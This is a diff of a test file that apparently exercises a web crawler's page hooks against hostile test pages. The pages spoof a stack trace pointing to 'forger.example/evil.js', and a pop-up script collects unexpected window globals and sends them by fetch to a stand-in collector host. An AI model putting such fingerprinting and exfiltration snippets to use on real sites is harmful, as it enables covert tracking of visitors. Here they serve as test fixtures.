@@ -210,18 +210,14 @@ FRAME_PAGE = f"""<!doctype html><title>frame</title><script src="https://{HOST}/
 FRAME_JS = """Error.prepareStackTrace = () => "Error\\n    at https://forger.example/evil.js:1:1";
 document.cookie = "frame_cookie=1; path=/; max-age=3600; SameSite=None; Secure";"""
 
-# The pop-up's first document loads before the crawler has its page (hooked from then on); it watches
-# its globals meanwhile (a binding left behind would show up), then moves on to a second document.
+# The pop-up's first document loads before the crawler has its page and is hooked from then on; no
+# binding may stay behind in it. (While the hooks are being set up in it, a page polling its globals
+# could catch the binding for an instant: a known limit, not asserted either way.)
 POPUP_ONE = """<!doctype html><title>pop</title><script>(() => {
   const base = new Set(Object.getOwnPropertyNames(window));
-  const extra = new Set();
-  const watch = setInterval(() => {
-    for (const n of Object.getOwnPropertyNames(window)) if (!base.has(n) && !/^\\d+$/.test(n)) extra.add(n);
-  }, 5);
   setTimeout(() => {
-    clearInterval(watch);
-    const names = [...extra].join(",");
-    fetch("https://collector.hostile-demo.net/found?where=pop.hostile-demo.net/one&names=" + names,
+    const extra = Object.getOwnPropertyNames(window).filter(n => !base.has(n) && !/^\\d+$/.test(n));
+    fetch("https://collector.hostile-demo.net/found?where=pop.hostile-demo.net/one&names=" + extra.join(","),
           { mode: "no-cors" }).catch(() => {}).finally(() => { location.href = "/two"; });
   }, 400);
 })();</script>"""
